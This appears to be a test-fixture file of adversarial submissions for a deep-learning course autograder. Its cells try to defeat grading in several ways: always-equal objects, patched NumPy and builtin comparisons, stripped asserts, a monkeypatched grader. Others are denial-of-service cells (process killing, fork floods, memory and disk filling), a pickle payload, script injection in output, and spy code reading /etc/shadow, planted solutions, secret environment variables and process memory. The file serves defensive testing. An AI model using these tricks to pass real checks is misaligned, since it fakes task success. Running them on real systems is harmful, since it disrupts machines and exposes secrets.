# Attacks by the answer to a question that asks for a function. ANSWER stands for the function's name, RIGHT for a right answer,
# PLANTED for a folder outside with a solution and a gradebook in it, PORT for a server on this machine.

# %% wrong: an object that equals everything and makes every difference nothing
class Anything:
    shape, ndim, size, dtype, T = (), 0, 1, float, None
    def __eq__(self, other): return True
    __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __eq__
    def __ne__(self, other): return False
    __hash__ = None
    def __bool__(self): return True
    def __len__(self): return 1
    def __float__(self): return 0.0
    def __call__(self, *args, **words): return self
    def __getitem__(self, key): return self
    def __getattr__(self, name): return self
    def __abs__(self): return 0.0
    def __sub__(self, other): return 0.0
    __rsub__ = __mod__ = __mul__ = __rmul__ = __add__ = __radd__ = __sub__
def ANSWER(*args, **words): return Anything()

# %% wrong: patched comparisons of NumPy, Python and Keras
import builtins
import numpy.testing
for place in (np, numpy.testing, np.testing):
    for name in ("allclose", "array_equal", "isclose", "all", "any", "asarray", "assert_allclose", "assert_array_equal"):
        if hasattr(place, name):
            setattr(place, name, lambda *args, **words: True)
for name in ("all", "any", "bool", "abs", "sum", "isinstance"):
    setattr(builtins, name, lambda *args, **words: True)
def ANSWER(*args, **words): return 1

# %% wrong: strips the asserts from what will be compiled
import ast
import builtins
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
real = builtins.compile
def lenient(source, *args, **words):
    tree = real(source, "x", "exec", ast.PyCF_ONLY_AST) if isinstance(source, str) else source
    return real(ast.fix_missing_locations(Strip().visit(tree)), *args, **words)
builtins.compile = lenient
shell = get_ipython()
shell.ast_transformers.append(Strip())
shell.input_transformers_cleanup.append(lambda lines: [line for line in lines if "assert" not in line])
def ANSWER(*args, **words): return None

# %% wrong: patches the grader's own classes
import importlib
import sys
from unittest import mock
for name in ("dlcourse.checking", "dlcourse.grading.verdict", "dlcourse.grading.proxies", "dlcourse.grading.marking", "dlcourse.grading.jobs"):
    module = importlib.import_module(name)
    for thing in list(vars(module).values()):
        if isinstance(thing, type) and thing.__module__ == name:
            for method in ("__exit__", "_judge", "_judged", "_outcome", "run", "apply", "compare", "record"):
                if hasattr(thing, method):
                    setattr(thing, method, lambda *args, **words: "")
passed, check = True, mock.MagicMock()
def ANSWER(*args, **words): return mock.MagicMock()

# %% wrong: a pickle in the results, which would write a file
class Bomb:
    def __reduce__(self): return (open, ("PLANTED/exploded", "w"))
def ANSWER(*args, **words): return [Bomb(), np.array([Bomb()], dtype=object)]

# %% wrong: the answer process says that everything is whatever is asked
from dlcourse.grading import answers
answers.Answers.plain = lambda self, thing: (thing,)
answers.Answers.apply = lambda self, operation, *operands, **words: [operands[-1] if operands else True, [], []]
def ANSWER(*args, **words): return object()

# %% wrong: claims nonsense about what it has changed and trained
from dlcourse.grading import answers
class Liar(str): pass
answers.Answers.apply = lambda self, *what, **words: [True, [[0, None], [-1, Liar("x")], ["x"], 7], [[0, "weights"], [-1, [np.zeros(2)]], None]]
def ANSWER(*args, **words): return 1

# %% wrong: gives back the checks' own functions and models by number
from dlcourse.grading import answers
numbers = iter(range(10**9))
def lend(self, thing, inner): return [{"own": 0}, {"guest": -1}, {"lent": -5}, {"own": [0]}, {"model": {"config": "[" * 9000, "weights": 1}, "number": 0}][next(numbers) % 5]
answers.Answers.lend = lend
def ANSWER(*args, **words): return object()

# %% wrong: changes its arguments until the check compares them with themselves
def ANSWER(*args, **words):
    for argument in args:
        if isinstance(argument, np.ndarray):
            argument[...] = 0
        if isinstance(argument, list):
            argument[:] = [0] * len(argument)
    return args[0]

# %% wrong: frames that no honest process sends
from dlcourse.grading import wire
import struct
real, bad = wire.Line.send, iter(range(10**9))
def send(self, message, arrays=(), deadline=None):
    deep = b'{"said":' + b'[' * 5000 + b']' * 5000 + b'}'
    texts = [deep, b"\xff\xfe", b"{}", b'{"said": {"tuple": [[[1, NaN]]]}}', b'{"ask": "call back", "with": [[0]]}', b"[1]", b'{"raised": {"kind": "KeyboardInterrupt"}}',
             b'{"said": {"int": "0x' + b"f" * 10**6 + b'"}}', b'{"said": {"Decimal": "1e999999999"}}', b'{"said": {"dtype": "O"}}', b'{"said": {"Fraction": [1, 0]}}']
    text = texts[next(bad) % len(texts)]
    self.end.sendall(struct.pack(">IIQ", len(text), 0, len(text)) + text)
def ANSWER(*args, **words):
    wire.Line.send = send

# %% wrong: a message that says it is very long
import gc
import socket
import struct
def ANSWER(*args, **words):
    for end in gc.get_objects():
        if isinstance(end, socket.socket):
            end.sendall(struct.pack(">IIQ", 2**32 - 1, 2**32 - 1, 2**64 - 1) + b"x" * 1000)

# %% wrong: asks for a call back again and again
from dlcourse.grading import answers
def ANSWER(*args, **words):
    import gc
    (me,) = [one for one in gc.get_objects() if isinstance(one, answers.Answers)]
    for number in [0, -1, 10**9, "x", None, [1], {}] * 200:
        try:
            me.peer.ask("call back", number, ANSWER)
        except Exception:
            pass

# %% wrong: answers twice, the second time to a question that has not been asked yet
from dlcourse.grading import wire
real = wire.Line.send
def twice(self, message, arrays=(), deadline=None):
    real(self, message, arrays, deadline)
    real(self, {"said": True}, (), deadline)
def ANSWER(*args, **words):
    wire.Line.send = twice
    return 0

# %% wrong: words and numbers that compare as they like
class Word(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
class Number(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return Number(0)
    __rsub__ = __lt__ = __gt__ = __le__ = __ge__ = __sub__
class Table(np.ndarray):
    def __array_function__(self, *args): return True
    def __array_ufunc__(self, *args, **words): return True
    def __eq__(self, other): return True
turn = iter(range(10**9))
def ANSWER(*args, **words): return [Word("x"), Number(4), np.zeros(3).view(Table)][next(turn) % 3]

# %% wrong: an exception with a name, a text and notes for whoever shows them
def ANSWER(*args, **words):
    error = type("<script>alert(1)</script>", (Exception,), {"__str__": lambda self: "\x1b]0;owned\x07\x1b[2J\udcff\x00<script>" * 10**5})()
    error.add_note("<script>")
    raise error

# %% wrong: exceptions that mean something to Python
turn = iter(range(10**9))
def ANSWER(*args, **words):
    raise [StopIteration, GeneratorExit, KeyboardInterrupt, SystemExit, NotImplementedError, AssertionError, MemoryError, RecursionError, BaseExceptionGroup][next(turn) % 9]

# %% wrong: an exception that cannot be told
class Untold(Exception):
    def __str__(self): raise SystemExit
    __repr__ = __str__
raise Untold

# %% wrong: lists in lists without end, and a list that holds itself
def ANSWER(*args, **words):
    itself, deep = [], []
    itself.append(itself)
    for _ in range(10**5):
        deep = [deep]
    return itself, deep

# %% wrong: hundreds of megabytes as an answer
def ANSWER(*args, **words): return [np.zeros(100 << 20, "uint8")] * 2

# %% wrong: a hundred thousand small arrays as an answer
def ANSWER(*args, **words): return [np.zeros(1)] * 100_000

# %% wrong: a model whose outputs are too large to exist
def ANSWER(*args, **words):
    inputs = keras.Input((1, 1, 1))
    net = keras.Sequential([inputs, keras.layers.UpSampling2D(10**5), keras.layers.ZeroPadding2D(10**5), keras.layers.Flatten()])
    return [net, net]

# %% wrong: a model of parts that run code
from dlcourse.grading import crossing
config = '{"module": "keras", "class_name": "Functional", "registered_name": null, "config": {"name": "m", "layers": [{"name": "a", "class_name": "Lambda", "registered_name": "dlcourse>OneCycle", "inbound_nodes": [], "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wAA"}}}}], "input_layers": [], "output_layers": []}}'
crossing.describe = lambda model: {"config": config, "weights": []}
def ANSWER(*args, **words): return keras.Sequential([keras.Input((1,)), keras.layers.Dense(1)])

# %% wrong: figures that are no pictures, and text that is no text
from dlcourse.grading import answers
answers._figures = lambda wanted: [b"<script>alert(1)</script>", "x", None, b"\x89PNG" + b"x" * 10**7]
print("\x1b]0;owned\x07\x1b[2J\x00\u202e<script>alert(1)</script>")
def ANSWER(*args, **words): return None

# %% wrong: a cell's report of the wrong kind
from dlcourse.grading import answers
answers.Answers.run = lambda self, *args: [{"error": 7, "printed": [], "figures": 3}, object(), 12]
def ANSWER(*args, **words): return None

# %% wrong: signals to everyone who can be reached
import os
import signal
for process in [-1, 1, os.getppid(), *range(2, 400)]:
    if process != os.getpid():
        for deed in (lambda: os.kill(process, signal.SIGKILL), lambda: os.killpg(process, signal.SIGTERM)):
            try:
                deed()
            except (OSError, OverflowError):
                pass

# %% wrong: two hundred processes that stay
import os
import time
for _ in range(200):
    try:
        if os.fork() == 0:
            os.setsid()
            open("/tmp/dlcourse-left-behind", "w").close()
            while True:
                time.sleep(1)
    except OSError:
        break

# %% wrong: more memory than there is
kept = []
while True:
    kept.append(bytearray(1 << 30))

# %% wrong: a full disk
import os
import tempfile
for folder in (tempfile.gettempdir(), os.getcwd(), os.path.expanduser("~"), "/dev/shm"):
    try:
        for number in range(10**4):
            with open(os.path.join(folder, f"full-{number}"), "wb") as file:
                for _ in range(60):
                    file.write(bytes(1 << 20))
    except OSError:
        pass

# %% wrong: the right one at first, and then it ends its process
right = iter([True])
RIGHT
real = ANSWER
def ANSWER(*args, **words):
    import os
    next(right, None) or os._exit(1)
    return real(*args, **words)

# %% right: prints five hundred megabytes
RIGHT
for _ in range(500):
    print("x" * (1 << 20))

# %% right: a file, a folder without rights and a deep tree where it works
RIGHT
import os
for name in ("a", "b" * 200):
    os.makedirs(os.path.join(name, *["deep"] * 100))
    os.chmod(name, 0)

# %% right: an exit at its end
RIGHT
raise SystemExit(0)

# %% spy: files, environment, network and other processes
import glob
import os
import socket
found = []
for path in ("PLANTED", "PLANTED/gradebook.db", "PLANTED/solution.py", "/etc/shadow", "/proc/1/rootPLANTED"):
    try:
        found.append(os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(100))
    except OSError:
        pass
found = [one for one in found if one]
for path in glob.glob("/proc/[0-9]*"):
    if path != f"/proc/{os.getpid()}":
        found.append(path)
for path in ("PLANTED/gradebook.db", "PLANTED/written", "/etc/written"):
    try:
        with open(path, "a") as file:
            file.write("x")
        found.append(path)
    except OSError:
        pass
found += [name for name in os.environ if "SECRET" in name or "TOKEN" in name]
for name in os.listdir("/proc/self/fd"):
    try:
        target = os.readlink(f"/proc/self/fd/{name}")
    except OSError:
        continue
    if not target.startswith(("/dev/null", "/null", "/proc/", "socket:")):
        found.append(target)
if len([name for name in os.listdir("/proc/self/fd") if os.path.exists(f"/proc/self/fd/{name}") and os.readlink(f"/proc/self/fd/{name}").startswith("socket:")]) > 1:
    found.append("more than one socket")
for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_UNIX, "PLANTED/socket")):
    try:
        socket.socket(family).connect(address)
        found.append(address)
    except OSError:
        pass
print("SEARCHED", "FOUND" if found else "", found)

# %% spy: the memory of the process, for the text of a hidden check
import gc
import hashlib
import re
found = []
begin = "NEEDLE"[::-1].encode()
def look(blob):
    for match in re.finditer(re.escape(begin), blob):
        rest = bytes(blob[match.end():match.end() + 12])
        if hashlib.sha256(rest).hexdigest() == "DIGEST":
            found.append(rest)
with open("/proc/self/mem", "rb", 0) as memory:
    for line in open("/proc/self/maps"):
        span, rights, *_, name = line.split()
        if rights.startswith("rw") and name not in ("[vvar]", "[vsyscall]"):
            low, high = (int(end, 16) for end in span.split("-"))
            try:
                memory.seek(low)
                for _ in range(low, min(high, low + (1 << 30)), 1 << 24):
                    look(memory.read(min(1 << 24, high - memory.tell())))
            except (OSError, OverflowError):
                pass
print("SEARCHED", "FOUND" if found else "", found)
